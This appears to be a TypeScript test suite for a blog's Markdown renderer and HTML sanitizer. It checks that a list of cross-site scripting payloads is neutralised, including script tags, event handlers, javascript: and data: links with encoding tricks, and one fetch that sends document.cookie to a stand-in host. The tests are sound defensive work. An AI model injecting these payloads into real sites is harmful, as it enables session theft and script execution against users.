import { renderMarkdown, sanitizeBlogHtml } from './markdown';

const SAFE_TAGS = new Set(
  'p h2 h3 h4 h5 h6 a ul ol li strong em b i del s code pre blockquote hr br table thead tbody tr th td img'.split(
    ' ',
  ),
);
const SAFE_ATTRS = new Set([
  'href',
  'title',
  'rel',
  'target',
  'src',
  'alt',
  'width',
  'height',
  'align',
  'start',
  'class',
]);

// eslint-disable-next-line no-control-regex -- matching control characters is the point
const SPACE_OR_CONTROL = /[\s\u0000-\u001f]/g;

const decode = (v: string) =>
  v
    .replace(/&#x([0-9a-f]+);?/gi, (_m, h: string) => String.fromCharCode(parseInt(h, 16)))
    .replace(/&#(\d+);?/g, (_m, d: string) => String.fromCharCode(Number(d)))
    .replace(/&quot;/g, '"')
    .replace(/&amp;/g, '&');

/**
 * Nothing executable may survive: every tag in the output is on the allow-list, no attribute is an
 * event handler or style, and no URL uses a script or data scheme. Text (escaped) may mention anything.
 */
function expectInert(html: string) {
  // Any "<" that is not escaped must open an allowed tag with quoted, allowed attributes.
  const tagRe = /<(\/?)([a-zA-Z0-9]+)((?:\s+[a-zA-Z-]+(?:="[^"<>]*")?)*)\s*\/?>/g;
  const stripped = html.replace(tagRe, (_m, _close: string, name: string, attrs: string) => {
    expect(SAFE_TAGS.has(name.toLowerCase())).toBe(true);
    for (const [, attr, value = ''] of attrs.matchAll(/([a-zA-Z-]+)(?:="([^"]*)")?/g)) {
      expect(SAFE_ATTRS.has(attr.toLowerCase())).toBe(true);
      if (attr === 'href' || attr === 'src') {
        // Browsers ignore whitespace and control characters inside a scheme, so the check does too.
        const url = decode(value).replace(SPACE_OR_CONTROL, '').toLowerCase();
        expect(url).not.toMatch(/^(javascript|vbscript|data|file):/);
        expect(url.startsWith('//')).toBe(false);
      }
    }
    return '';
  });
  expect(stripped).not.toContain('<');
}

describe('renderMarkdown', () => {
  it('renders the Markdown the articles use', () => {
    const html = renderMarkdown(
      '## How to ask\n\nCall the **billing office** and ask for the *itemized* bill.\n\n- one\n- two\n\n> a quote\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n[Read more](/blog/post/what-is-an-ms-drg)',
    );
    expect(html).toContain('<h2>How to ask</h2>');
    expect(html).toContain('<strong>billing office</strong>');
    expect(html).toContain('<em>itemized</em>');
    expect(html).toContain('<li>one</li>');
    expect(html).toContain('<blockquote>');
    expect(html).toContain('<table>');
    expect(html).toContain('<a href="/blog/post/what-is-an-ms-drg">Read more</a>');
  });

  it('turns a level-one heading into a section heading (the page title is the only h1)', () => {
    expect(renderMarkdown('# Title')).toBe('<h2>Title</h2>');
  });

  it('opens external links in a new tab without passing the opener or referrer', () => {
    const html = renderMarkdown('[CMS](https://www.cms.gov/nosurprises)');
    expect(html).toBe(
      '<p><a href="https://www.cms.gov/nosurprises" rel="nofollow noopener noreferrer" target="_blank">CMS</a></p>',
    );
  });

  it('keeps site and http(s) images and drops others', () => {
    expect(renderMarkdown('![Doctor](/images/library/doctor.svg)')).toContain(
      '<img src="/images/library/doctor.svg" alt="Doctor" />',
    );
    expect(renderMarkdown('![x](data:image/svg+xml;base64,PHN2Zz4=)')).not.toContain('data:');
  });

  const PAYLOADS: [string, string][] = [
    ['raw script block', '<script>alert(document.cookie)</script>'],
    ['inline script', 'Hello <script>fetch("//evil.example/"+document.cookie)</script> world'],
    ['image onerror', '<img src="x" onerror="alert(1)">'],
    ['svg onload', '<svg onload="alert(1)"><circle r="5"/></svg>'],
    ['iframe', '<iframe src="https://evil.example"></iframe>'],
    ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
    ['style tag', '<style>body{background:url(javascript:alert(1))}</style>'],
    ['style attribute', '<p style="background:url(javascript:alert(1))">x</p>'],
    ['markdown javascript link', '[click](javascript:alert(1))'],
    ['markdown javascript link, mixed case', '[click](JaVaScRiPt:alert(1))'],
    ['markdown javascript link, entity encoded', '[click](&#106;avascript:alert(1))'],
    ['markdown javascript link, tab inside', '[click](java\tscript:alert(1))'],
    ['html javascript link', '<a href="javascript:alert(1)">x</a>'],
    ['vbscript link', '<a href="vbscript:msgbox(1)">x</a>'],
    ['data html link', '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
    ['markdown image javascript', '![x](javascript:alert(1))'],
    ['autolink javascript', '<javascript:alert(1)>'],
    ['body onload', '<body onload="alert(1)">'],
    ['object', '<object data="javascript:alert(1)"></object>'],
    ['embed', '<embed src="javascript:alert(1)">'],
    ['form', '<form action="javascript:alert(1)"><input type="submit"></form>'],
    ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
    ['base href', '<base href="javascript:alert(1)//">'],
    ['details ontoggle', '<details open ontoggle="alert(1)">x</details>'],
    ['unclosed tag trick', '<img src=x onerror=alert(1)//'],
    ['nested script', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
    ['math', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
    ['link title attribute break-out', '[x](https://ok.example "a\\" onmouseover=\\"alert(1)")'],
    ['code block with script is text', '```html\n<script>alert(1)</script>\n```'],
  ];

  it('has a checker that catches unsafe output (so the payload tests mean something)', () => {
    for (const bad of [
      '<img src="x" onerror="alert(1)">',
      '<script>alert(1)</script>',
      '<a href="javascript:alert(1)">x</a>',
      '<a href="&#106;avascript:alert(1)">x</a>',
      '<p style="color:red">x</p>',
      '<iframe src="/x"></iframe>',
      '<img src=x onerror=alert(1)>',
    ]) {
      expect(() => expectInert(bad)).toThrow();
    }
    expect(() => expectInert('<p>javascript: is just text &lt;script&gt;</p>')).not.toThrow();
  });

  it.each(PAYLOADS)('neutralises %s', (_name, payload) => {
    const html = renderMarkdown(payload);
    expectInert(html);
    expect(html).not.toMatch(/<script/i);
  });

  it('shows a script inside a code block as text', () => {
    expect(renderMarkdown('```html\n<script>alert(1)</script>\n```')).toContain('&lt;script&gt;');
  });

  it('keeps the text around removed tags readable', () => {
    expect(renderMarkdown('Hello <script>alert(1)</script> world')).toBe('<p>Hello  world</p>');
  });

  it('sanitizes pasted HTML with the same rules', () => {
    const html = sanitizeBlogHtml('<p onclick="x()">Hi <a href="javascript:x()">there</a></p>');
    expect(html).toBe('<p>Hi <a>there</a></p>');
  });
});
